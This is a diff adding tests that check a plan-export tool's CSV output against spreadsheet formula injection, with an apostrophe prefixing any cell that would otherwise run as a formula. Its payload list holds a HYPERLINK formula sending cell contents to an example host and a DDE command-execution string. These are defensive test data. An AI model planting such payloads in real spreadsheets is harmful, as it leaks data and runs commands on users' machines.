@@ -130,6 +130,73 @@ const FOAF = 'http://xmlns.com/foaf/0.1/';
 type Node = Record<string, unknown[]> & { '@id'?: string; '@type'?: string[] };
 const first = (node: Node, property: string) => node[property]?.[0] as Node & { '@value'?: string };
 
+describe('CSV cells that a spreadsheet would run as formulas', () => {
+  const PAYLOADS = [
+    '=HYPERLINK("http://example.com/"&A1,"clic")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(A1:A9)',
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+  const FREE_TEXT = new Set([
+    'title',
+    'name',
+    'description',
+    'notes',
+    'responsibles',
+    'expectedResults',
+    'unit',
+    'source',
+  ]);
+
+  /** The demo plan with every free-text field turned into one of the payloads. */
+  function poisonedPlan(): PlanDocument {
+    let n = 0;
+    const next = () => PAYLOADS[n++ % PAYLOADS.length]!;
+    const walk = (value: unknown): unknown => {
+      if (Array.isArray(value)) return value.map(walk);
+      if (value === null || typeof value !== 'object') return value;
+      const out: Record<string, unknown> = {};
+      for (const [key, v] of Object.entries(value)) {
+        if (FREE_TEXT.has(key) && typeof v === 'string') out[key] = next();
+        else if (FREE_TEXT.has(key) && Array.isArray(v))
+          out[key] = v.map((x) => (typeof x === 'string' ? next() : walk(x)));
+        else out[key] = walk(v);
+      }
+      return out;
+    };
+    return walk(demoPlan()) as PlanDocument;
+  }
+
+  it('writes no text cell of any table that begins with =, +, -, @, tab or carriage return', async () => {
+    const files = await exportFiles(poisonedPlan(), 'csv');
+    let neutralized = 0;
+    for (const f of files) {
+      const rows = parse(f.body as string, { skip_empty_lines: true }) as string[][];
+      for (const cell of rows.flat()) {
+        if (/^-?\d+(\.\d+)?$/.test(cell)) continue; // a number, negative ones included
+        expect(cell, `${f.name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+        if (cell.startsWith("'") && PAYLOADS.includes(cell.slice(1))) neutralized++;
+      }
+    }
+    expect(neutralized).toBeGreaterThan(20);
+  });
+
+  it('keeps the text after a leading apostrophe, and numbers (negative ones too) as they are', () => {
+    const table = {
+      name: 'spending',
+      columns: ['description', 'amount'],
+      rows: [['=1+1', -1500.5]],
+    };
+    const [row] = parse(toCsv(table as never), {
+      skip_empty_lines: true,
+      from_line: 2,
+    }) as string[][];
+    expect(row).toEqual(["'=1+1", '-1500.5']);
+  });
+});
+
 describe('DCAT-AP_IT metadata', () => {
   const base = 'https://piano.example.it/api/plans/123/exports/';
   const doc = demoPlan();
